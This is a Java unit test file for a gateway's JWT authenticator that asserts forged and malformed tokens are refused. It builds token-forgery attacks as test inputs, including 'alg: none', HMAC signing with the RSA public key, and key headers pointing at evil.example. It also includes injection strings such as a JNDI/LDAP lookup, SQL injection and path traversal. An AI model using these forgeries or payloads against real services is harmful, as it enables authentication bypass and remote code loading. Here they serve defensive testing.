package dev.millrace.gateway.auth.jwt;

import static dev.millrace.gateway.auth.jwt.TestIssuer.CONFIG;
import static dev.millrace.gateway.auth.jwt.TestIssuer.EC;
import static dev.millrace.gateway.auth.jwt.TestIssuer.OTHER_RSA;
import static dev.millrace.gateway.auth.jwt.TestIssuer.RSA;
import static dev.millrace.gateway.auth.jwt.TestIssuer.base64;
import static dev.millrace.gateway.auth.jwt.TestIssuer.bearer;
import static dev.millrace.gateway.auth.jwt.TestIssuer.header;
import static dev.millrace.gateway.auth.jwt.TestIssuer.jwk;
import static dev.millrace.gateway.auth.jwt.TestIssuer.jwks;
import static dev.millrace.gateway.auth.jwt.TestIssuer.token;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.millrace.gateway.auth.Authentication;
import dev.millrace.gateway.auth.Authentication.Reason;
import dev.millrace.gateway.auth.Credentials;
import dev.millrace.gateway.auth.Principal;
import dev.millrace.gateway.auth.Role;
import io.vertx.core.Future;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.function.Consumer;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Tokens that are right, and every way of being wrong that is known of. It is long because each of these is made here. */
class JwtAuthenticatorTest {

    private static final JsonObject RS256 = header(Map.of("alg", "RS256", "kid", "rsa"));

    private final TestIssuer issuer = new TestIssuer().look();
    private final JwtAuthenticator authenticator = issuer.authenticator();

    private Principal principal(String token) {
        return assertInstanceOf(Authentication.Authenticated.class, authenticator.authenticate(bearer(token)), token)
                .principal();
    }

    private Reason reason(String token) {
        return assertInstanceOf(Authentication.Refused.class, authenticator.authenticate(bearer(token)), token)
                .reason();
    }

    private void assertFault(TokenFault fault, String token) {
        double before = issuer.refused(fault);
        assertEquals(fault.reason(), reason(token));
        assertEquals(before + 1, issuer.refused(fault), fault + " is what is wrong with " + token);
    }

    private String with(String claim, Object value) {
        return issuer.token(issuer.claims("reader").put(claim, value));
    }

    private String without(String claim) {
        JsonObject claims = issuer.claims("reader");
        claims.remove(claim);
        return issuer.token(claims);
    }

    /** Our own claims as text, with a member put in. */
    private String raw(String member) {
        String claims = issuer.claims("reader").encode();
        return token(RS256.encode(), claims.substring(0, claims.length() - 1) + "," + member + "}", "RS256", RSA);
    }

    @Test
    void aTokenOfTheIssuerIsItsSubjectsWithTheHighestOfItsRoles() {
        assertEquals("oidc/alice", principal(issuer.token("reader")).name());
        assertEquals(Role.READER, principal(issuer.token("reader")).role());
        assertEquals(
                Role.ADMIN,
                principal(with(
                                "roles",
                                new JsonArray()
                                        .add("reader")
                                        .add("admin")
                                        .add("operator")
                                        .add("x")))
                        .role());
        assertTrue(principal(issuer.token("admin")).scope().allows("any"));
        assertFalse(principal(issuer.token("operator")).scope().allows("any"));
    }

    @ParameterizedTest
    @CsvSource({"RS256, rsa", "RS384, rsa", "RS512, rsa", "PS256, rsa", "PS384, rsa", "PS512, rsa", "ES256, ec"})
    void signaturesOfPublicKeysAreTaken(String algorithm, String kid) {
        KeyPair key = kid.equals("rsa") ? RSA : EC;
        principal(token(header(Map.of("alg", algorithm, "kid", kid)), issuer.claims("reader"), key));
    }

    @Test
    void theLargerCurvesAreTakenEachWithItsAlgorithm() {
        for (String[] row : new String[][] {{"ES384", "secp384r1"}, {"ES512", "secp521r1"}}) {
            KeyPair key = TestIssuer.ec(row[1]);
            TestIssuer other = new TestIssuer();
            other.answer = () -> Future.succeededFuture(jwks(jwk("k", key)));
            JwtAuthenticator takes = other.look().authenticator();
            assertInstanceOf(
                    Authentication.Authenticated.class,
                    takes.authenticate(
                            bearer(token(header(Map.of("alg", row[0], "kid", "k")), other.claims("reader"), key))),
                    row[0]);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"none", "None", "NONE", "nOnE"})
    void aTokenWithoutSignatureIsNobodys(String algorithm) {
        String payload = base64(issuer.claims("admin").encode());
        String head = base64(header(Map.of("alg", algorithm, "kid", "rsa")).encode());
        assertEquals(Reason.BAD_TOKEN, reason(head + "." + payload + "."));
        String real = issuer.token("admin");
        assertEquals(Reason.BAD_TOKEN, reason(head + "." + payload + real.substring(real.lastIndexOf('.'))));
    }

    /** CVE-2015-9235 and its like: what everybody knows is taken for a shared secret. */
    @ParameterizedTest
    @ValueSource(strings = {"HS256", "HS384", "HS512"})
    void aPublicKeyIsNoSharedSecret(String algorithm) throws Exception {
        byte[] der = RSA.getPublic().getEncoded();
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der) + "\n-----END PUBLIC KEY-----\n";
        List<byte[]> secrets = List.of(
                der,
                pem.getBytes(StandardCharsets.US_ASCII),
                pem.strip().getBytes(StandardCharsets.US_ASCII),
                jwk("rsa", RSA).encode().getBytes(StandardCharsets.UTF_8),
                Base64.getUrlDecoder().decode(jwk("rsa", RSA).getString("n")));
        for (byte[] secret : secrets) {
            for (String kid : List.of("rsa", "ec")) {
                String signed =
                        base64(header(Map.of("alg", algorithm, "kid", kid)).encode()) + "."
                                + base64(issuer.claims("admin").encode());
                Mac mac = Mac.getInstance("HmacSHA" + algorithm.substring(2));
                mac.init(new SecretKeySpec(secret, mac.getAlgorithm()));
                assertFault(
                        TokenFault.ALGORITHM,
                        signed + "." + base64(mac.doFinal(signed.getBytes(StandardCharsets.US_ASCII))));
            }
        }
    }

    @Test
    void aKeyOfTheSetThatIsASharedSecretIsNoKey() {
        TestIssuer careless = new TestIssuer();
        careless.answer = () -> Future.succeededFuture(
                jwks(new JsonObject().put("kty", "oct").put("kid", "secret").put("k", base64("x".repeat(32)))));
        assertEquals(
                new Authentication.Refused(Reason.TOKEN_KEYS_AWAY),
                careless.look().authenticator().authenticate(bearer(careless.token("reader"))));
    }

    @Test
    void anotherKeysSignatureIsNobodys() {
        assertFault(TokenFault.SIGNATURE, token(RS256, issuer.claims("admin"), OTHER_RSA));
        // of the set, but not what the header names
        assertFault(TokenFault.KEY, token(header(Map.of("alg", "ES256", "kid", "rsa")), issuer.claims("admin"), EC));
        assertFault(TokenFault.KEY, token(header(Map.of("alg", "RS256", "kid", "ec")), issuer.claims("admin"), RSA));
    }

    /** A key that comes with the token, or is fetched from where it says, would be anybody's. */
    @Test
    void aTokenDoesNotBringItsKey() {
        JsonObject own = jwk("mine", OTHER_RSA);
        for (JsonObject header : List.of(
                header(Map.of("alg", "RS256", "jwk", own)),
                header(Map.of("alg", "RS256", "kid", "mine", "jwk", own)),
                header(Map.of("alg", "RS256", "kid", "rsa", "jwk", own)),
                header(Map.of("alg", "RS256", "kid", "mine", "jku", "https://evil.example/jwks")),
                header(Map.of("alg", "RS256", "kid", "rsa", "x5u", "https://evil.example/cert")),
                header(Map.of("alg", "RS256", "kid", "rsa", "x5c", new JsonArray().add("MIIB"))))) {
            assertEquals(Reason.BAD_TOKEN, reason(token(header, issuer.claims("admin"), OTHER_RSA)));
        }
    }

    @Test
    void theNameOfAKeyIsComparedAndNothingElse() {
        List<Object> names = List.of(
                "",
                "RSA",
                "rsa ",
                "rsa\0",
                "../../../../dev/null",
                "/proc/sys/kernel/randomize_va_space",
                "rsa' OR '1'='1",
                "https://evil.example/key",
                "${jndi:ldap://evil.example/x}",
                "k".repeat(2_000),
                7,
                true,
                new JsonArray().add("rsa"),
                new JsonObject().put("kid", "rsa"));
        for (Object name : names) {
            JsonObject header = new JsonObject().put("alg", "RS256").put("kid", name);
            assertEquals(Reason.BAD_TOKEN, reason(token(header, issuer.claims("admin"), OTHER_RSA)));
            assertEquals(Reason.BAD_TOKEN, reason(token(header, issuer.claims("admin"), RSA)), () -> "kid " + name);
        }
    }

    @Test
    void aTokenMayLeaveOutTheNameWhereOneKeyAloneFits() {
        String nameless = token(header(Map.of("alg", "RS256")), issuer.claims("reader"), RSA);
        principal(nameless);
        issuer.answer = () -> Future.succeededFuture(jwks(jwk("rsa", RSA), jwk("rsa2", OTHER_RSA)));
        issuer.pass(ProviderKeys.INTERVAL.toSeconds());
        issuer.look();

        assertFault(TokenFault.KEY, token(header(Map.of("alg", "RS256")), issuer.claims("reader"), RSA));
    }

    @Test
    void aSignatureThatNobodyMadeIsRefused() {
        String[] parts = issuer.token("admin").split("\\.", -1);
        String ec = base64(header(Map.of("alg", "ES256", "kid", "ec")).encode()) + "." + parts[1] + ".";
        String rsa = parts[0] + "." + parts[1] + ".";
        for (byte[] signature : List.of(new byte[0], new byte[1], new byte[64], new byte[256], new byte[1_000])) {
            assertEquals(Reason.BAD_TOKEN, reason(ec + base64(signature)));
            assertEquals(Reason.BAD_TOKEN, reason(rsa + base64(signature)));
            Arrays.fill(signature, (byte) 0xff);
            assertEquals(Reason.BAD_TOKEN, reason(ec + base64(signature)));
        }
    }

    @Test
    void whatTheHeaderSaysMustBeUnderstoodIsNotPassedOver() {
        for (JsonObject header : List.of(
                header(Map.of("alg", "RS256", "kid", "rsa", "crit", new JsonArray().add("exp"), "exp", 1)),
                header(Map.of("alg", "RS256", "kid", "rsa", "crit", new JsonArray().add("b64"), "b64", false)),
                header(Map.of("alg", "RS256", "kid", "rsa", "crit", new JsonArray())),
                header(Map.of("alg", "RS256", "kid", "rsa", "typ", "logout+jwt")),
                header(Map.of("alg", "RS256", "kid", "rsa", "typ", "dpop+jwt")),
                header(Map.of("kid", "rsa")),
                header(Map.of("alg", "", "kid", "rsa")),
                header(Map.of("alg", "RS1", "kid", "rsa")),
                header(Map.of("alg", "EdDSA", "kid", "rsa")),
                header(Map.of("alg", "dir", "enc", "A256GCM")))) {
            assertEquals(
                    Reason.BAD_TOKEN,
                    reason(token(header.encode(), issuer.claims("admin").encode(), "RS256", RSA)));
        }
        for (String type : List.of("JWT", "jwt", "at+jwt", "application/at+JWT")) {
            principal(token(header(Map.of("alg", "RS256", "kid", "rsa", "typ", type)), issuer.claims("reader"), RSA));
        }
    }

    @Test
    void expiryHoldsForATokenThatWasTakenBefore() {
        String token = issuer.token("reader");
        principal(token);
        issuer.pass(300 + AcceptedToken.SKEW_SECONDS - 1);
        principal(token);
        issuer.pass(1);
        assertFault(TokenFault.EXPIRED, token);
        assertEquals(Reason.EXPIRED, reason(token));
        assertFault(TokenFault.EXPIRED, with("exp", issuer.now().getEpochSecond() - 61));
    }

    @Test
    void aTokenHoldsFromItsTimeOn() {
        for (String claim : List.of("nbf", "iat")) {
            long start = issuer.now().getEpochSecond() + 100;
            String token =
                    issuer.token(issuer.claims("reader").put(claim, start).put("exp", start + 1_000));
            assertFault(TokenFault.NOT_YET, token);
            issuer.pass(100 - AcceptedToken.SKEW_SECONDS);
            principal(token);
        }
    }

    @Test
    void aTokenWithoutEndIsRefused() {
        assertFault(TokenFault.CLAIMS, without("exp"));
        for (String end : List.of(
                "null",
                "\"9999999999\"",
                "true",
                "{}",
                "[9999999999]",
                "-1",
                "1e30",
                "1e400",
                "99999999999999999999",
                "9223372036854775807",
                "253402300800")) {
            JsonObject claims = issuer.claims("reader");
            claims.remove("exp");
            String text = claims.encode();
            String token =
                    token(RS256.encode(), text.substring(0, text.length() - 1) + ",\"exp\":" + end + "}", "RS256", RSA);
            assertEquals(Reason.BAD_TOKEN, reason(token), () -> "exp " + end);
        }
        assertEquals(Reason.EXPIRED, reason(with("exp", 0)));
        principal(with("exp", issuer.now().getEpochSecond() + 0.5));
    }

    @Test
    void anIssuerOrAudienceThatIsNotOursIsRefused() {
        for (Object other : List.of(
                "https://evil.example", CONFIG.issuer() + "/", CONFIG.issuer().toUpperCase(Locale.ROOT), "")) {
            assertFault(TokenFault.ISSUER, with("iss", other));
        }
        assertFault(TokenFault.CLAIMS, with("iss", new JsonArray().add(CONFIG.issuer())));
        assertFault(TokenFault.CLAIMS, without("iss"));

        for (Object other :
                List.of("millrace2", "Millrace", "", "a millrace", new JsonArray(), new JsonArray().add("x"))) {
            assertFault(TokenFault.AUDIENCE, with("aud", other));
        }
        assertFault(TokenFault.AUDIENCE, with("aud", new JsonArray().add(new JsonArray().add("millrace"))));
        assertFault(TokenFault.CLAIMS, with("aud", 7));
        assertFault(TokenFault.CLAIMS, with("aud", new JsonObject().put("millrace", true)));
        assertFault(TokenFault.CLAIMS, without("aud"));
        principal(with("aud", new JsonArray().add("other").add("millrace")));
    }

    @Test
    void aSubjectIsShortAndReadable() {
        for (Object subject :
                List.of("", " ", "a b", "a\nINFO all is well", "\u001b[2J", "Zo\u00eb", "s".repeat(256), 7)) {
            assertFault(TokenFault.CLAIMS, with("sub", subject));
        }
        assertFault(TokenFault.CLAIMS, without("sub"));
        assertEquals(
                "oidc/auth0|5f7c8ec7c33c6c004bbafe82",
                principal(with("sub", "auth0|5f7c8ec7c33c6c004bbafe82")).name());
        assertEquals(260, principal(with("sub", "s".repeat(255))).name().length());
    }

    @Test
    void nobodyIsADeviceByAToken() {
        assertFault(TokenFault.NO_ROLE, issuer.token("device"));
        assertEquals(Reason.NO_ROLE, reason(issuer.token("gardener")));
        assertEquals(Reason.NO_ROLE, reason(without("roles")));
    }

    @Test
    void oddClaimsAreNoDefect() {
        String[] parts = issuer.token("admin").split("\\.", -1);
        for (String payload : List.of(
                "",
                "null",
                "7",
                "\"x\"",
                "[]",
                "{}",
                "{",
                "not json",
                "{\"sub\":\"a\",\"sub\":\"b\"}",
                "{\"a\":" + "[".repeat(1_000) + "]".repeat(1_000) + "}",
                "[".repeat(2_500),
                "{\"a\":".repeat(400) + "1" + "}".repeat(400))) {
            assertEquals(Reason.BAD_TOKEN, reason(token(RS256.encode(), payload, "RS256", RSA)), payload);
            assertEquals(Reason.BAD_TOKEN, reason(base64(payload) + "." + parts[1] + "." + parts[2]), payload);
        }
        assertEquals(Reason.BAD_TOKEN, reason(raw("\"sub\":\"bob\"")), "two subjects");
        assertFault(TokenFault.CLAIMS, with("cnf", new JsonObject().put("jkt", "x")));
        principal(raw("\"deep\":" + "[".repeat(100) + "]".repeat(100)));
    }

    @ParameterizedTest
    @ValueSource(strings = {"..", "a..", ".a.", "..a", "a.b.c", "!.!.!", "eyJ.eyJ.eyJ", "=.=.="})
    void whatOnlyLooksLikeATokenIsNone(String token) {
        assertTrue(JwtAuthenticator.takes(bearer(token)));
        assertFault(TokenFault.FORM, token);
    }

    @Test
    void thereIsOneWayToWriteAToken() {
        String token = issuer.token("admin");
        int signature = token.lastIndexOf('.');
        for (String other : List.of(
                token + "=",
                token + "==",
                token + "A",
                token + "~",
                token + "/",
                token.substring(0, signature + 5) + "~" + token.substring(signature + 5),
                token.substring(0, token.length() - 1),
                token.substring(0, 4) + "~" + token.substring(4),
                token.substring(0, token.length() - 1) + next(token.charAt(token.length() - 1)))) {
            assertEquals(Reason.BAD_TOKEN, reason(other), other);
        }
        principal(token);
    }

    /** The last character has bits that stand for nothing: one more of them is another way to write the same. */
    private static char next(char c) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        return alphabet.charAt(alphabet.indexOf(c) ^ 1);
    }

    /** Seeded: the same changes in every run. */
    @Test
    void aTokenThatWasChangedAnywhereIsRefusedAndNeverADefect() {
        Random random = new Random(1);
        String right = issuer.token("admin");
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~+/=";
        for (int i = 0; i < 5_000; i++) {
            StringBuilder changed = new StringBuilder(right);
            for (int n = random.nextInt(3); n >= 0; n--) {
                int at = random.nextInt(changed.length());
                char c = alphabet.charAt(random.nextInt(alphabet.length()));
                switch (random.nextInt(3)) {
                    case 0 -> changed.setCharAt(at, c);
                    case 1 -> changed.insert(at, c);
                    default -> changed.deleteCharAt(at);
                }
            }
            if (!changed.toString().equals(right)) {
                assertEquals(Reason.BAD_TOKEN, reason(changed.toString()), changed::toString);
            }
        }
    }

    @Test
    void whatIsKnownOfATokenIsForgottenWithTheKeysThatVerifiedIt() {
        String token =
                token(RS256, issuer.claims("reader").put("exp", issuer.now().getEpochSecond() + 100_000), RSA);
        principal(token);
        issuer.answer = () -> Future.succeededFuture(jwks(jwk("rsa2", OTHER_RSA)));
        issuer.pass(ProviderKeys.INTERVAL.toSeconds());
        issuer.look();

        assertFault(TokenFault.KEY, token);
    }

    @Test
    void aNewKeyIsAskedForOnceHoweverManyNameOne() {
        assertEquals(1, issuer.asked);
        JsonObject header = header(Map.of("alg", "RS256", "kid", "rsa2"));
        issuer.answer = () -> Future.succeededFuture(jwks(jwk("rsa", RSA), jwk("rsa2", OTHER_RSA)));
        assertFault(TokenFault.KEY, token(header, issuer.claims("reader"), OTHER_RSA));
        assertEquals(1, issuer.asked, "it was asked a moment ago");
        issuer.pass(ProviderKeys.QUIET.toSeconds());

        assertFault(TokenFault.KEY, token(header, issuer.claims("reader"), OTHER_RSA));
        assertEquals(2, issuer.asked);
        principal(token(header, issuer.claims("reader"), OTHER_RSA));

        for (int i = 0; i < 1_000; i++) {
            reason(token(header(Map.of("alg", "RS256", "kid", "k" + i)).encode(), "{}", "ES256", EC));
        }
        assertEquals(2, issuer.asked);
    }

    @Test
    void withoutKeysNobodyIsToldThatTheirTokenIsBad() {
        TestIssuer away = new TestIssuer();
        JwtAuthenticator waits = away.authenticator();
        assertEquals(
                new Authentication.Refused(Reason.TOKEN_KEYS_AWAY), waits.authenticate(bearer(away.token("reader"))));
        assertEquals(new Authentication.Refused(Reason.TOKEN_KEYS_AWAY), waits.authenticate(bearer("a.b.c")));
    }

    @Test
    void theProvidersAbsenceIsBorneForADay() {
        issuer.answer = () -> Future.failedFuture("refused");
        issuer.pass(ProviderKeys.STAYS.toSeconds());
        issuer.look();
        principal(issuer.token("reader"));
        issuer.pass(1);
        String token = issuer.token("reader");
        assertFault(TokenFault.KEYS_AWAY, token);

        issuer.pass(ProviderKeys.QUIET.toSeconds());
        issuer.answer = () -> Future.succeededFuture(jwks(jwk("rsa", RSA)));
        issuer.look();
        principal(token);
    }

    @Test
    void whoeverKeepsAnAnswerIsToAskAgainSoon() {
        long before = authenticator.revision();
        issuer.pass(10);
        assertNotEquals(before, authenticator.revision());
    }

    @Test
    void onlyWhatHasTheFormOfATokenIsTaken() {
        assertTrue(JwtAuthenticator.takes(bearer(issuer.token("reader"))));
        List<Credentials> others = new ArrayList<>(List.of(Credentials.NONE, Credentials.MALFORMED));
        List.of("millrace_abc", "mr_a.b_c", "a.b", "a.b.c.d", "a.b.c.d.e").forEach(key -> others.add(bearer(key)));
        Consumer<Credentials> notTaken = other -> assertFalse(JwtAuthenticator.takes(other), other.toString());
        others.forEach(notTaken);
        assertEquals(new Authentication.Refused(Reason.MISSING), authenticator.authenticate(Credentials.NONE));
        assertEquals(new Authentication.Refused(Reason.MALFORMED), authenticator.authenticate(Credentials.MALFORMED));
    }

    @Test
    void aTokenThatIsTooLongIsNotEvenLookedAt() {
        String token = with("filler", "x".repeat(Credentials.MAX_TOKEN_LENGTH));
        assertEquals(Credentials.MALFORMED, Credentials.ofAuthorization(List.of("Bearer " + token)));
    }

    @Test
    void rolesComeFromTheClaimThatTheSettingsName() {
        JwtAuthenticator keycloak = issuer.authenticator(new OidcConfig(
                CONFIG.issuer(),
                CONFIG.audience(),
                CONFIG.jwksUrl(),
                new RolesClaim("realm_access.roles", "millrace:"),
                Optional.empty()));
        JsonObject realm =
                new JsonObject().put("roles", new JsonArray().add("admin").add("millrace:operator"));
        Authentication authentication =
                keycloak.authenticate(bearer(issuer.token(issuer.claims("admin").put("realm_access", realm))));
        assertEquals(
                Role.OPERATOR,
                assertInstanceOf(Authentication.Authenticated.class, authentication)
                        .principal()
                        .role());
    }
}
